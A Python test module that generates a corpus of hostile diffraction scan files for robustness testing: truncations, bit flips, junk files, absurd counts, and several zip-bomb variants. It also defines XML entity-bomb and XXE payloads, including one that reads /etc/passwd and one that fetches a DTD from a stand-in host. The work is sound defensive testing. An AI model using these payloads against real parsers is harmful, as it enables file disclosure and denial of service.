"""A seeded corpus of hostile scan files: what an unattended agent must survive.

Every file is derived from the real instrument fixtures (or written from scratch where the
attack needs no source) and described by a :class:`HostileCase` saying how it was made and
what a correct reader must do with it:

``reject``
    the file is broken or dangerous; only a :class:`~xrd_agent.errors.ScanError` is right;
``either``
    a mutation that may still be a valid scan (a bit flip in the counts, a text file cut at a
    line end): a valid ``Scan`` or a ``ScanError``, nothing else;
``valid``
    a sound scan behind an awkward name or folder: it must read.

Families: truncations at every structural boundary of every fixture format (RAW v3 file and
range headers, RAW4 preamble, segment heads and range headers, BRML zip local headers, data,
central directory and end record, XML members cut at element boundaries, text at line ends),
random bit flips, junk behind the right magic bytes, absurd declared counts and lengths, zip
bombs (ratio, many members, nested, overlapping entries, lying sizes, encrypted and
unsupported methods), XML entity bombs (billion laughs, external entities, UTF-16 disguise),
sparse files beyond the reader cap, non-regular files (FIFO, directory), deep folders,
symlinks leading outside the export folder, and names with odd characters.

The byte layouts used here are the ones in ``shared/notes/field-notes.md``; they are written
out again on purpose (this module knows nothing of the readers it attacks). Nothing here
reads a generated file back; FIFOs and symlinks are created, never opened.
"""

from __future__ import annotations

import io
import json
import math
import os
import random
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

#: Outcome a correct reader must produce (see the module docstring).
REJECT = "reject"
EITHER = "either"
VALID = "valid"

#: Default size of the sparse "huge" files: beyond the readers' 256 MiB cap.
HUGE_SIZES = (300 * 2**20, 8 * 2**30, 2**40)

#: Bytes written by the zip-bomb family before compression (kept modest so the corpus builds
#: in seconds: deflate of zeros reaches ~1000:1, so this is ~0.3 MB on disk).
BOMB_BYTES = 300 * 2**20

MANIFEST_NAME = "hostile-manifest.json"


@dataclass(frozen=True)
class HostileCase:
    """One file (or link, FIFO, folder) of the corpus and what a reader must do with it."""

    name: str  # path relative to the corpus root; may hold spaces, unicode, newlines
    family: str
    source: str | None  # fixture it was derived from
    detail: str  # how it was made, for the report
    expect: str  # REJECT | EITHER | VALID
    kind: str = "file"  # file | sparse | symlink | fifo | dir

    def to_dict(self) -> dict[str, object]:
        return asdict(self)


@dataclass(frozen=True)
class Corpus:
    root: Path
    seed: int
    cases: tuple[HostileCase, ...]

    def paths(self) -> Iterator[tuple[HostileCase, Path]]:
        for case in self.cases:
            yield case, self.root / case.name

    def counts(self) -> dict[str, int]:
        out: dict[str, int] = {}
        for case in self.cases:
            out[case.family] = out.get(case.family, 0) + 1
        return dict(sorted(out.items()))

    def save_manifest(self, path: Path | None = None) -> Path:
        """Write the manifest (JSON); by default next to the corpus root, not inside it, so
        a service watching the root never sees it."""
        path = path or self.root.parent / f"{self.root.name}.{MANIFEST_NAME}"
        data = {"seed": self.seed, "root": str(self.root), "cases": [c.to_dict() for c in self.cases]}
        # Names may hold lone surrogates (undecodable bytes): json escapes them losslessly.
        path.write_text(json.dumps(data, ensure_ascii=True, indent=0))
        return path

    @classmethod
    def load_manifest(cls, path: Path) -> Corpus:
        data = json.loads(Path(path).read_text())
        return cls(Path(data["root"]), int(data["seed"]), tuple(HostileCase(**c) for c in data["cases"]))


# ---------------------------------------------------------------------------------------------
# Byte layouts (field notes; xylib bruker_raw.cpp for RAW1.01 header addresses)

RAW3_FILE_HEADER = 712
RAW3_RANGE_HEADER = 304
RAW3_OFFSETS = {  # file header
    "status": 8, "range_count": 12, "date": 16, "time": 26, "user": 36, "site": 108,
    "sample_id": 326, "comment": 386, "anode": 608, "alpha_average": 616, "alpha1": 624,
    "alpha2": 632, "beta": 640, "alpha_ratio": 648, "measurement_time": 664,
}
RAW3_RANGE_OFFSETS = {  # relative to a range header
    "header_len": 0, "steps": 4, "start_theta": 8, "start_2theta": 16, "high_voltage": 100,
    "step_size": 176, "time_per_step": 192, "kv": 224, "ma": 228, "used_lambda": 240,
    "varying": 248, "record_size": 252, "supplementary_size": 256,
}
RAW4_PREAMBLE = 61
RAW4_RANGE_HEADER = 160
RAW4_RANGE_OFFSETS = {
    "scan_type": 32, "start": 72, "step": 80, "steps": 88, "time_per_step": 92, "kv": 100,
    "ma": 104, "wavelength": 112, "record_size": 136, "extra_size": 140,
}
RAW4_RANGE_TYPES = (0, 160)


@dataclass(frozen=True)
class Boundary:
    offset: int
    label: str


def raw3_boundaries(data: bytes) -> list[Boundary]:
    """Structural offsets of a RAW1.01 file: header fields, each range's header fields, the
    start and end of its supplementary block and its data records."""
    out = [Boundary(o, f"file header {k}") for k, o in RAW3_OFFSETS.items()]
    out += [Boundary(0, "empty"), Boundary(4, "inside magic"), Boundary(7, "after magic"),
            Boundary(RAW3_FILE_HEADER, "end of file header")]
    (count,) = struct.unpack_from("<I", data, RAW3_OFFSETS["range_count"])
    off = RAW3_FILE_HEADER
    for r in range(min(count, 64)):
        if off + RAW3_RANGE_HEADER > len(data):
            break
        head_len, steps = struct.unpack_from("<II", data, off)
        rec = struct.unpack_from("<I", data, off + RAW3_RANGE_OFFSETS["record_size"])[0] or 4
        sup = struct.unpack_from("<I", data, off + RAW3_RANGE_OFFSETS["supplementary_size"])[0]
        out += [Boundary(off + o, f"range {r} header {k}") for k, o in RAW3_RANGE_OFFSETS.items()]
        data_start = off + head_len + sup
        out += [Boundary(off + head_len, f"range {r} end of header"),
                Boundary(data_start, f"range {r} first record"),
                Boundary(data_start + rec // 2, f"range {r} inside first record"),
                Boundary(data_start + rec * (steps // 2), f"range {r} middle record"),
                Boundary(data_start + rec * (steps - 1), f"range {r} last record"),
                Boundary(data_start + rec * steps - 1, f"range {r} last byte")]
        off = data_start + rec * steps
    return out


def raw4_boundaries(data: bytes) -> list[Boundary]:
    """Structural offsets of a RAW4.00 file: preamble fields, every segment head (type,
    length, body), every range header field, the drive sub-segments and the data records."""
    out = [Boundary(0, "empty"), Boundary(4, "inside magic"), Boundary(7, "after magic"),
           Boundary(12, "preamble date"), Boundary(24, "preamble time"),
           Boundary(RAW4_PREAMBLE - 1, "last preamble byte"), Boundary(RAW4_PREAMBLE, "end of preamble")]
    off = RAW4_PREAMBLE
    while off + 8 <= len(data):
        seg_type, seg_len = struct.unpack_from("<II", data, off)
        if seg_type in RAW4_RANGE_TYPES:
            out += [Boundary(off + o, f"range header {k}") for k, o in RAW4_RANGE_OFFSETS.items()]
            steps = struct.unpack_from("<I", data, off + RAW4_RANGE_OFFSETS["steps"])[0]
            rec = struct.unpack_from("<I", data, off + RAW4_RANGE_OFFSETS["record_size"])[0] or 4
            extra = struct.unpack_from("<I", data, off + RAW4_RANGE_OFFSETS["extra_size"])[0]
            start = off + RAW4_RANGE_HEADER + extra
            out += [Boundary(off, "range segment type"), Boundary(off + 4, "range segment length"),
                    Boundary(off + RAW4_RANGE_HEADER, "end of range header / drive sub-segments"),
                    Boundary(off + RAW4_RANGE_HEADER + extra // 2, "inside drive sub-segments"),
                    Boundary(start, "first data record"), Boundary(start + 4, "inside first record"),
                    Boundary(start + rec * (steps // 2), "middle record"),
                    Boundary(start + rec * (steps - 1), "last record"),
                    Boundary(start + rec * steps - 1, "last data byte")]
            off = start + rec * steps
        else:
            if seg_len < 8:
                break
            out += [Boundary(off, f"segment {seg_type} head"), Boundary(off + 4, f"segment {seg_type} length"),
                    Boundary(off + 8, f"segment {seg_type} body"),
                    Boundary(off + seg_len - 1, f"segment {seg_type} last byte")]
            if seg_type == 10:
                out.append(Boundary(off + 36, "text variable value"))
            off += seg_len
    return out


def zip_boundaries(data: bytes) -> list[Boundary]:
    """Offsets of a zip's local headers (fixed part, name, data, middle of data), central
    directory entries and end-of-central-directory record."""
    out = [Boundary(0, "empty"), Boundary(2, "inside magic"), Boundary(4, "after magic")]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        infos = zf.infolist()
        cd_start = min((zf.start_dir,), default=len(data))
    for info in infos:
        off = info.header_offset
        name_len, extra_len = struct.unpack_from("<HH", data, off + 26)
        body = off + 30 + name_len + extra_len
        short = info.filename.rsplit("/", 1)[-1] or info.filename
        out += [Boundary(off, f"local header {short}"), Boundary(off + 14, f"local header CRC {short}"),
                Boundary(off + 30, f"local header name {short}"), Boundary(body, f"data of {short}"),
                Boundary(body + info.compress_size // 2, f"middle of {short}"),
                Boundary(body + info.compress_size - 1, f"last data byte of {short}")]
    out.append(Boundary(cd_start, "central directory"))
    pos = cd_start
    for info in infos[:3] + infos[-2:]:  # a few entries: they all look alike
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        out += [Boundary(pos, f"central entry {info.filename.rsplit('/', 1)[-1]}"),
                Boundary(pos + 46, "central entry name")]
        pos += 4
    eocd = data.rfind(b"PK\x05\x06")
    out += [Boundary(eocd, "end of central directory"), Boundary(eocd + 10, "EOCD entry count"),
            Boundary(eocd + 16, "EOCD directory offset"), Boundary(len(data) - 1, "last byte")]
    return out


def text_boundaries(data: bytes, markers: Iterable[bytes]) -> list[Boundary]:
    """Line ends near the start and end, the middle of a line, and every section marker."""
    out = [Boundary(0, "empty"), Boundary(1, "one byte")]
    lines = [i + 1 for i, b in enumerate(data) if b == 0x0A]
    for i in lines[:12] + lines[len(lines) // 2: len(lines) // 2 + 2] + lines[-6:]:
        out.append(Boundary(i, "line end"))
        out.append(Boundary(i + 3, "inside a line"))
    for marker in markers:
        pos = data.find(marker)
        while 0 <= pos and len([b for b in out if b.label.startswith("marker")]) < 40:
            out += [Boundary(pos, f"marker {marker.decode(errors='replace')}"),
                    Boundary(pos + len(marker) // 2, f"marker {marker.decode(errors='replace')} (inside)"),
                    Boundary(pos + len(marker), f"after marker {marker.decode(errors='replace')}")]
            pos = data.find(marker, pos + 1)
            if pos > 0 and marker in (b"<", b"\n"):
                break
    out.append(Boundary(len(data) - 1, "last byte"))
    return out


XML_MARKERS = (b"<?xml", b"<Datum>", b"</Datum>", b"<DataRoute", b"<ScanInformation", b"<ScanAxisInfo",
               b"<SubScanInfo", b"</DataRoutes>", b"<intensities", b"<counts", b"</dataPoints>",
               b"<positions", b"<usedWavelength", b"</xrdMeasurement>")
UXD_MARKERS = (b"_2THETACOUNTS", b"_START", b"_STEPSIZE", b"_DRIVE", b"_ANODE", b"; (Data for Range")


# ---------------------------------------------------------------------------------------------
# Writers


def synthetic_xy(rng: random.Random, points: int = 2251, start: float = 5.0, step: float = 0.02) -> bytes:
    """A plausible two-column scan (a few Gaussian peaks on a background, Poisson-ish noise):
    the text source for the xy mutations and the valid content behind odd names."""
    peaks = [(rng.uniform(6, 48), rng.uniform(200, 5000), rng.uniform(0.05, 0.2)) for _ in range(8)]
    lines = ["# 2theta intensity (synthetic, xrd_agent.testing.hostile)"]
    for i in range(points):
        x = start + i * step
        y = 100 + 20 * math.exp(-x / 15)
        for centre, height, width in peaks:
            y += height * math.exp(-0.5 * ((x - centre) / width) ** 2)
        y += rng.gauss(0, math.sqrt(y))
        lines.append(f"{x:.4f} {max(y, 0):.1f}")
    return ("\n".join(lines) + "\n").encode()


#: Member timestamp: fixed, so a seed gives the same bytes on every run.
ZIP_TIME = (2024, 1, 1, 0, 0, 0)


def _info(name: str, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
    info.compress_type = method
    return info


def _zip_bytes(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, payload in members:
            zf.writestr(_info(name, method), payload, compresslevel=1)
    return buf.getvalue()


def _brml_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _find_member(members: list[tuple[str, bytes]], suffix: str) -> int:
    for i, (name, _) in enumerate(members):
        if name.endswith(suffix):
            return i
    raise LookupError(suffix)


def _flip(data: bytes, rng: random.Random, flips: int, lo: int = 0) -> tuple[bytes, list[int]]:
    buf = bytearray(data)
    where = sorted(rng.randrange(lo, len(buf)) for _ in range(flips))
    for pos in where:
        buf[pos] ^= 1 << rng.randrange(8)
    return bytes(buf), where


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b"]>\n"
)
XXE_FILE = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
XXE_NET = b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd">\n'
XXE_PARAM = (b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>\n')
QUADRATIC = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]>\n'


def _xml_with_doctype(body: bytes, prolog: bytes, payload_ref: bytes) -> bytes:
    """Splice a hostile prolog in front of a real XML document and an entity reference into
    its first text-bearing element, so a parser that expands entities pays for it."""
    start = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
    rest = body[start:].lstrip()
    insert = rest.find(b">") + 1  # after the root start tag
    return prolog + rest[:insert] + payload_ref + rest[insert:]


class _Builder:
    """Writes cases into the corpus root and remembers them."""

    def __init__(self, root: Path, rng: random.Random) -> None:
        self.root = root
        self.rng = rng
        self.cases: list[HostileCase] = []
        self._names: set[str] = set()

    def _unique(self, name: str) -> str:
        base, dot, ext = name.rpartition(".")
        if not dot:
            base, ext = name, ""
        candidate, n = name, 1
        while candidate in self._names:
            candidate = f"{base}-{n}.{ext}" if ext else f"{base}-{n}"
            n += 1
        self._names.add(candidate)
        return candidate

    def add(self, name: str, payload: bytes, family: str, source: str | None, detail: str, expect: str) -> None:
        name = self._unique(name)
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(payload)
        self.cases.append(HostileCase(name, family, source, detail, expect))

    def sparse(self, name: str, head: bytes, size: int, family: str, detail: str, expect: str = REJECT) -> None:
        name = self._unique(name)
        with open(self.root / name, "wb") as fh:
            fh.write(head)
            fh.truncate(size)  # a hole: costs no disk
        self.cases.append(HostileCase(name, family, None, detail, expect, kind="sparse"))

    def symlink(self, name: str, target: str | Path, detail: str) -> None:
        name = self._unique(name)
        os.symlink(target, self.root / name)
        self.cases.append(HostileCase(name, "symlink", None, detail, REJECT, kind="symlink"))

    def special(self, name: str, kind: str, detail: str) -> None:
        name = self._unique(name)
        path = self.root / name
        if kind == "fifo":
            os.mkfifo(path)
        else:
            path.mkdir()
            (path / "inside.raw").write_bytes(b"RAW4.00\x00")
        self.cases.append(HostileCase(name, "not_regular", None, detail, REJECT, kind=kind))


# ---------------------------------------------------------------------------------------------
# Families


def _ext(name: str) -> str:
    return Path(name).suffix.lower() or ".bin"


def _stem(name: str) -> str:
    return Path(name).stem[:24].replace(" ", "_")


def _truncations(b: _Builder, src: str, data: bytes) -> None:
    ext = _ext(src)
    # Binary headers: the boundary and one byte either side (an off-by-one in a length check
    # shows there); zip members all look alike, text is cut at line ends and inside lines.
    if data.startswith(b"RAW1.01"):
        bounds, expect, deltas = raw3_boundaries(data), REJECT, (-1, 0, 1)
    elif data.startswith(b"RAW4.00"):
        bounds, expect, deltas = raw4_boundaries(data), REJECT, (-1, 0, 1)
    elif data.startswith(b"PK\x03\x04"):
        bounds, expect, deltas = zip_boundaries(data), REJECT, (-1, 0)
    elif ext == ".xrdml":
        bounds, expect, deltas = text_boundaries(data, XML_MARKERS), EITHER, (0,)
    else:
        bounds, expect, deltas = text_boundaries(data, UXD_MARKERS), EITHER, (0,)
    seen: set[int] = set()
    for bound in bounds:
        for cut in (bound.offset + d for d in deltas):
            if 0 <= cut < len(data) and cut not in seen:
                seen.add(cut)
                b.add(f"trunc--{_stem(src)}--{cut:07d}{ext}", data[:cut], "truncation", src,
                      f"cut at byte {cut} of {len(data)} ({bound.label})", expect)


def _brml_inner(b: _Builder, src: str, data: bytes) -> None:
    """Mutations inside the XML members, re-zipped so the zip itself is sound."""
    members = _brml_members(data)
    raw_i = _find_member(members, "RawData0.xml")
    dc_i = _find_member(members, "DataContainer.xml")
    for idx, label in ((raw_i, "RawData0.xml"), (dc_i, "DataContainer.xml")):
        xml = members[idx][1]
        cuts = sorted({p for m in XML_MARKERS for p in [xml.find(m)] if p > 0} | {len(xml) // 2, len(xml) - 1})
        for cut in cuts:
            mutated = list(members)
            mutated[idx] = (members[idx][0], xml[:cut])
            b.add(f"inner-trunc--{_stem(src)}--{label[:7]}-{cut:08d}.brml", _zip_bytes(mutated), "truncation",
                  src, f"{label} cut at byte {cut} of {len(xml)}, re-zipped", REJECT)
        for n in range(12):
            flipped, where = _flip(xml, b.rng, b.rng.randint(1, 6))
            mutated = list(members)
            mutated[idx] = (members[idx][0], flipped)
            b.add(f"inner-flip--{_stem(src)}--{label[:7]}-{n:02d}.brml", _zip_bytes(mutated), "bitflip", src,
                  f"{label} bits flipped at {where}, re-zipped", EITHER)
    # Missing members, a member swapped for garbage, non-UTF-8 XML, stored (uncompressed) zip.
    # A reader may find RawData*.xml by name without the DataContainer index: either is right.
    for drop, label, expect in ((raw_i, "without RawData0.xml", REJECT),
                                (dc_i, "without DataContainer.xml", EITHER)):
        b.add(f"inner-missing--{_stem(src)}.brml", _zip_bytes(m for i, m in enumerate(members) if i != drop),
              "structure", src, label, expect)
    garbage = list(members)
    garbage[raw_i] = (members[raw_i][0], bytes(b.rng.randrange(256) for _ in range(4096)))
    b.add(f"inner-garbage--{_stem(src)}.brml", _zip_bytes(garbage), "structure", src,
          "RawData0.xml replaced by 4 KiB of random bytes", REJECT)
    latin = list(members)
    latin[raw_i] = (members[raw_i][0], members[raw_i][1].replace(b"<Datum>", b"<Datum>\xff\xfe", 5))
    b.add(f"inner-notutf8--{_stem(src)}.brml", _zip_bytes(latin), "structure", src,
          "invalid UTF-8 bytes inside <Datum>", REJECT)


def _bitflips(b: _Builder, src: str, data: bytes, count: int) -> None:
    ext = _ext(src)
    # Header-heavy: half the flips land in the first 1 KiB, where a flip changes a length.
    for n in range(count):
        lo_region = n % 2 == 0
        region = data[: min(1024, len(data))] if lo_region else data
        flipped, where = _flip(region, b.rng, b.rng.randint(1, 8))
        payload = flipped + data[len(region):] if lo_region else flipped
        b.add(f"flip--{_stem(src)}--{n:03d}{ext}", payload, "bitflip", src,
              f"bits flipped at offsets {where}{' (header)' if lo_region else ''}", EITHER)


def _set(data: bytes, offset: int, fmt: str, value: object) -> bytes:
    buf = bytearray(data)
    struct.pack_into(fmt, buf, offset, value)
    return bytes(buf)


ABSURD_U32 = (0, 0xFFFFFFFF, 0x7FFFFFFF, 0x80000000, 1_000_000_000, 65_536)


def _absurd(b: _Builder, fixtures: dict[str, bytes]) -> None:
    for src, data in fixtures.items():
        if data.startswith(b"RAW1.01"):
            r0 = RAW3_FILE_HEADER
            fields = [(RAW3_OFFSETS["range_count"], "range count"), (r0 + 0, "range header length"),
                      (r0 + 4, "steps"), (r0 + RAW3_RANGE_OFFSETS["record_size"], "record size"),
                      (r0 + RAW3_RANGE_OFFSETS["supplementary_size"], "supplementary header size")]
            for off, label in fields:
                for value in ABSURD_U32:
                    if struct.unpack_from("<I", data, off)[0] == value:
                        continue  # not a mutation
                    # Record size 0 is read as the classic 4 bytes by some readers; a changed
                    # supplementary size can still leave a file that parses: either is right.
                    lenient = value == 0 and label in ("record size", "supplementary header size")
                    b.add(f"absurd--{_stem(src)}--{label.replace(' ', '_')}-{value}.raw",
                          _set(data, off, "<I", value), "absurd_count", src, f"{label} set to {value}",
                          EITHER if lenient else REJECT)
            for off, label in ((r0 + 176, "step size"), (r0 + 16, "start 2-theta")):
                for value in (float("nan"), float("inf"), -1e308, 0.0):
                    b.add(f"absurd--{_stem(src)}--{label.replace(' ', '_')}-{value}.raw",
                          _set(data, off, "<d", value), "absurd_count", src, f"{label} set to {value}", EITHER)
        elif data.startswith(b"RAW4.00"):
            seg = RAW4_PREAMBLE
            rng_off = _raw4_range_offset(data)
            for value in (0, 1, 7, 0xFFFFFFFF, 0x7FFFFFFF, len(data) + 1):
                b.add(f"absurd--{_stem(src)}--seglen-{value}.raw", _set(data, seg + 4, "<I", value),
                      "absurd_count", src, f"first segment length set to {value} (0 loops a naive reader)",
                      REJECT)
            for key in ("steps", "record_size", "extra_size"):
                for value in ABSURD_U32:
                    b.add(f"absurd--{_stem(src)}--{key}-{value}.raw",
                          _set(data, rng_off + RAW4_RANGE_OFFSETS[key], "<I", value), "absurd_count", src,
                          f"range {key} set to {value}", REJECT)
            for key in ("start", "step", "wavelength"):
                for value in (float("nan"), float("inf"), -1e308, 0.0):
                    b.add(f"absurd--{_stem(src)}--{key}-{value}.raw",
                          _set(data, rng_off + RAW4_RANGE_OFFSETS[key], "<d", value), "absurd_count", src,
                          f"range {key} set to {value}", EITHER)
            b.add(f"absurd--{_stem(src)}--unknown-segment.raw",
                  data[:seg] + struct.pack("<II", 999, 8) + data[seg:], "absurd_count", src,
                  "an unknown empty segment type 999 inserted", EITHER)
        elif data.startswith(b"PK\x03\x04"):
            members = _brml_members(data)
            raw_i = _find_member(members, "RawData0.xml")
            xml = members[raw_i][1]
            for attr in (b"MeasurementPoints", b"MeasuredSteps", b"PlannedSteps"):
                pos = xml.find(attr + b'="')
                if pos < 0:
                    continue
                end = xml.find(b'"', pos + len(attr) + 2)
                for value in (b"999999999999", b"-5", b"0", b"1e308", b"NaN"):
                    mutated = list(members)
                    mutated[raw_i] = (members[raw_i][0], xml[: pos + len(attr) + 2] + value + xml[end:])
                    b.add(f"absurd--{_stem(src)}--{attr.decode()}-{value.decode()}.brml", _zip_bytes(mutated),
                          "absurd_count", src, f"{attr.decode()} set to {value.decode()}", EITHER)
            for label, old, new in (("datum-nan", b"<Datum>", b"<Datum>NaN,"),
                                    ("datum-inf", b"<Datum>", b"<Datum>1e999,"),
                                    ("datum-empty", b"<Datum>", b"<Datum>,,,,</Datum><Datum>")):
                mutated = list(members)
                mutated[raw_i] = (members[raw_i][0], xml.replace(old, new, 3))
                b.add(f"absurd--{_stem(src)}--{label}.brml", _zip_bytes(mutated), "absurd_count", src,
                      f"<Datum> rows edited: {label}", EITHER)
        elif src.lower().endswith(".uxd"):
            text = data.replace(b"_STEPSIZE=0.015592", b"_STEPSIZE=0.000000")
            b.add(f"absurd--{_stem(src)}--step0.uxd", text, "absurd_count", src, "_STEPSIZE=0", EITHER)
            b.add(f"absurd--{_stem(src)}--stepcount.uxd",
                  data.replace(b"_2THETACOUNTS", b"_STEPCOUNT=4000000000\n_2THETACOUNTS"), "absurd_count", src,
                  "_STEPCOUNT=4000000000", EITHER)
            b.add(f"absurd--{_stem(src)}--nan.uxd", data.replace(b"3.016\t183", b"3.016\tnan"), "absurd_count",
                  src, "a count of nan", REJECT)
        elif src.lower().endswith(".xrdml"):
            for label, old, new in (("start-nan", b"<startPosition>", b"<startPosition>NaN"),
                                    ("counts-inf", b"<intensities unit=\"counts\">",
                                     b"<intensities unit=\"counts\">inf "),
                                    ("no-end", b"<endPosition>", b"<endPositionX>")):
                b.add(f"absurd--{_stem(src)}--{label}.xrdml", data.replace(old, new, 1), "absurd_count", src,
                      f"XRDML edited: {label}", EITHER)


def _raw4_range_offset(data: bytes) -> int:
    off = RAW4_PREAMBLE
    while off + 8 <= len(data):
        seg_type, seg_len = struct.unpack_from("<II", data, off)
        if seg_type in RAW4_RANGE_TYPES:
            return off
        off += max(seg_len, 8)
    raise ValueError("no RAW4 range")


def _magic_junk(b: _Builder, count: int) -> None:
    magics = [(b"RAW1.01\x00", ".raw"), (b"RAW4.00\x00", ".raw"), (b"RAW ", ".raw"), (b"RAW2", ".raw"),
              (b"PK\x03\x04", ".brml"), (b"PK\x05\x06" + bytes(18), ".brml"), (b"<?xml version=\"1.0\"?>", ".xrdml"),
              (b";RAW4.00\r\n[Drive]\r\n", ".uxd"), (b"_2THETACOUNTS\n", ".uxd"), (b"", ".xy"), (b"", ".raw"),
              (b"\xef\xbb\xbf", ".xy"), (b"\xff\xfe", ".csv")]
    sizes = [0, 1, 7, 8, 60, 61, 62, 200, 711, 712, 713, 1016, 4096, 65_536]
    for n in range(count):
        magic, ext = magics[n % len(magics)]
        size = sizes[(n // len(magics)) % len(sizes)] if n < len(magics) * len(sizes) else b.rng.randrange(1 << 16)
        body = magic + b.rng.randbytes(max(size - len(magic), 0))
        expect = REJECT
        b.add(f"junk--{magic[:7].decode('latin-1').strip() or 'none'}--{n:03d}{ext}".replace("\x00", "")
              .replace("\r", "").replace("\n", "").replace("/", "_"),
              body, "magic_junk", None, f"{len(body)} bytes: magic {magic[:16]!r} then random bytes", expect)
    # Text that looks right and is not.
    text_cases = {
        "nan-values.xy": (b"5.0 nan\n5.01 inf\n5.02 3\n", REJECT),
        "one-point.xy": (b"5.0 100\n", REJECT),
        "header-only.csv": (b"two_theta,intensity\n", REJECT),
        "utf16.xy": ("5.00 1\n5.01 2\n5.02 3\n".encode("utf-16"), EITHER),
        "latin1-header.xy": (b"# \xe9chantillon \xff\n5.00 1\n5.01 2\n5.02 3\n", EITHER),
        "nul-bytes.xy": (b"5.00 1\n\x00\x00\x00\n5.02 3\n", EITHER),
        "decreasing.xy": (b"5.02 1\n5.01 2\n5.00 3\n", EITHER),
        "zigzag.xy": (b"5.00 1\n5.02 2\n5.01 3\n5.03 4\n", EITHER),
        "ragged.xy": (b"5.00 1 2 3 4\n5.01\n5.02 3\n", EITHER),
        "huge-numbers.xy": (b"5.00 1e308\n5.01 1e308\n5.02 -1e308\n", EITHER),
        "exponent-bomb.xy": (b"5.00 1e99999999999\n5.01 2\n", EITHER),
        "long-line.xy": (b"5.00 " + b"9" * 5_000_000 + b"\n5.01 2\n", EITHER),
        "whitespace.xy": (b" \n\t\n\r\n" * 1000, REJECT),
        "binary.xy": (bytes(range(256)) * 64, REJECT),
        "many-columns.csv": ((",".join(["1"] * 10_000) + "\n") .encode() * 3, EITHER),
        "semicolons.xy": (b"5,00;1\n5,01;2\n5,02;3\n", EITHER),
        "uxd-nocounts.uxd": (b"_FILEVERSION=2\n_START=5\n_STEPSIZE=0.01\n_2THETACOUNTS\n", REJECT),
        "uxd-garbage.uxd": (b"_FILEVERSION=2\n_2THETACOUNTS\n" + b"x y\n" * 100, EITHER),
        "xrdml-empty.xrdml": (b'<?xml version="1.0"?><xrdMeasurements/>', REJECT),
        "xrdml-notxml.xrdml": (b"<xrdMeasurements><<<>>>", REJECT),
    }
    for name, (payload, expect) in text_cases.items():
        b.add(f"junk--{name}", payload, "magic_junk", None, f"crafted text: {name}", expect)


def _zip_bombs(b: _Builder, brml: dict[str, bytes], bomb_bytes: int, many_members: int = 10_000) -> None:
    src, data = min(brml.items(), key=lambda kv: len(kv[1]))
    members = _brml_members(data)
    raw_i = _find_member(members, "RawData0.xml")
    raw_name = members[raw_i][0]
    prefix = raw_name[: -len("RawData0.xml")]

    def streamed(name: str, size: int, chunk: bytes = b"\x00") -> bytes:
        buf = io.BytesIO()
        # Level 9: on runs of identical bytes it is both faster and ~4x denser than level 6.
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
            for m_name, payload in members:
                if m_name != raw_name:
                    zf.writestr(_info(m_name), payload)
            block = chunk * (2**20 // len(chunk))
            with zf.open(_info(name), "w", force_zip64=True) as fh:
                for _ in range(size // len(block)):
                    fh.write(block)
        return buf.getvalue()

    b.add("bomb--ratio-zeros.brml", streamed(raw_name, bomb_bytes), "zip_bomb", src,
          f"RawData0.xml inflates to {bomb_bytes >> 20} MiB of zeros (ratio ~1000:1)", REJECT)
    below = min(bomb_bytes, 120 * 2**20)
    b.add("bomb--ratio-below-size-caps.brml", streamed(raw_name, below, b"<a>" + b" " * 1021),
          "zip_bomb", src, f"RawData0.xml inflates to {below >> 20} MiB of repeated XML: under size caps, "
          "only a ratio check stops it", REJECT)

    many = io.BytesIO()
    with zipfile.ZipFile(many, "w", zipfile.ZIP_STORED) as zf:
        for m_name, payload in members:
            zf.writestr(_info(m_name, zipfile.ZIP_STORED), payload)
        for i in range(many_members):
            zf.writestr(_info(f"{prefix}Experiment0/x{i}", zipfile.ZIP_STORED), b"")
    b.add("bomb--many-members.brml", many.getvalue(), "zip_bomb", src, f"{many_members:,} extra empty members",
          REJECT)

    # Nested: RawData0.xml is itself a zip of zips (42.zip in miniature).
    inner = _zip_bytes([("0.xml", b"\x00" * 2**20)])
    for level in range(4):
        inner = _zip_bytes([(f"{level}-{i}.zip", inner) for i in range(8)])
    nested = list(members)
    nested[raw_i] = (raw_name, inner)
    b.add("bomb--nested.brml", _zip_bytes(nested), "zip_bomb", src,
          "RawData0.xml replaced by a 4-level zip of zips (8**4 x 1 MiB if recursed)", REJECT)

    # Overlapping entries: many central-directory records point at one compressed member
    # (Fifield's non-recursive bomb in its simplest form; Python < 3.11.8 does not detect it).
    share = max(bomb_bytes // 15, 2**20)
    b.add("bomb--overlap.brml", _overlapping_zip(members, raw_name, share, copies=16), "zip_bomb", src,
          f"16 central records of RawData0.xml share one {share >> 20} MiB member", REJECT)

    # Lying sizes: the directory declares a small member, the deflate stream is 64 MiB.
    b.add("bomb--lying-size.brml", _lying_size_zip(members, raw_name), "zip_bomb", src,
          "RawData0.xml declared 1 KiB, deflate stream inflates to 64 MiB", REJECT)

    # Features a reader is unlikely to support: they must be refused, not crash.
    b.add("bomb--encrypted.brml", _flag_member(_zip_bytes(members), raw_name, flag=0x1), "zip_bomb", src,
          "RawData0.xml marked encrypted", REJECT)
